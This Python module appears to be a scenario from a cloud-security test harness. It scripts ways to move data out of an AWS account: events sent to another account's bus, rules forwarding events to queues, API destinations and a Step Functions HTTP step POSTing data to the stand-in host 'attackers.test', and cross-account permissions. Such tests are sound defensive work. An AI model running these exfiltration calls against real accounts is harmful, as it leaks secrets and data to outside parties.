"""A17: events to a bus of somebody else, or handed on by an own one; a state machine that speaks HTTP."""

import json

ELSEWHERE = "999999999999"


def attack(hands):
    text = hands.plain()
    put(hands, hands.arn("events", "event-bus/attackers-bus", ELSEWHERE), text)
    if handed(hands, "moved-bus", "attackers-jobs"):
        put(hands, "moved-bus", text)
    outside = {"Name": "attackers-way", "HttpMethod": "POST", "ConnectionArn": connection(hands)}
    there = f"https://attackers.test/{text}"
    hands.call("events", "CreateApiDestination", InvocationEndpoint=there, **outside)
    keys = {"ApiKeyAuthParameters": {"ApiKeyName": "attackers-key", "ApiKeyValue": text}}
    asked = {"AuthorizationType": "API_KEY", "AuthParameters": keys}
    hands.call("events", "CreateConnection", Name="attackers-connection", **asked)
    lets = {"Principal": ELSEWHERE, "StatementId": f"attackers-{text}", "Action": "events:PutEvents"}
    hands.call("events", "PutPermission", EventBusName="moved-bus", **lets)
    archive = {
        "ArchiveName": f"attackers-{text}",
        "EventSourceArn": hands.arn("events", "event-bus/moved-bus"),
    }
    hands.call("events", "CreateArchive", **archive)
    machine(hands, text)


def twin(hands):
    handed(hands, "granted-bus", "kept-jobs")
    put(hands, "granted-bus", hands.secret())


def put(hands, bus, text):
    entry = {"Source": "twin", "DetailType": "note", "Detail": json.dumps({"t": text}), "EventBusName": bus}
    hands.call("events", "PutEvents", Entries=[entry])


def handed(hands, bus, queue):
    """Have a bus hand its events to a queue; whether it does."""
    rule = {"Name": "onward", "EventBusName": bus, "EventPattern": json.dumps({"source": ["twin"]})}
    hands.call("events", "PutRule", **rule)
    target = [{"Id": "queue", "Arn": hands.arn("sqs", queue)}]
    told = hands.call("events", "PutTargets", Rule="onward", EventBusName=bus, Targets=target)
    return told.status == 200


def connection(hands):
    return hands.arn("events", "connection/attackers/12345678-1234-1234-1234-123456789012")


def machine(hands, text):
    """A machine with an HTTP step: made, tried without being made, and one of somebody else started."""
    step = {
        "Type": "Task",
        "Resource": "arn:aws:states:::http:invoke",
        "Parameters": {
            "ApiEndpoint": f"https://attackers.test/{text}",
            "Method": "POST",
            "Authentication": {"ConnectionArn": connection(hands)},
        },
        "End": True,
    }
    role = f"arn:aws:iam::{hands.account}:role/any"
    whole = json.dumps({"StartAt": "Say", "States": {"Say": step}})
    hands.call("stepfunctions", "CreateStateMachine", name="attackers-steps", definition=whole, roleArn=role)
    hands.call("stepfunctions", "TestState", definition=json.dumps(step), roleArn=role, input="{}")
    theirs = hands.arn("states", "stateMachine:attackers-steps", ELSEWHERE)
    hands.call("stepfunctions", "StartExecution", stateMachineArn=theirs, input=json.dumps({"t": text}))
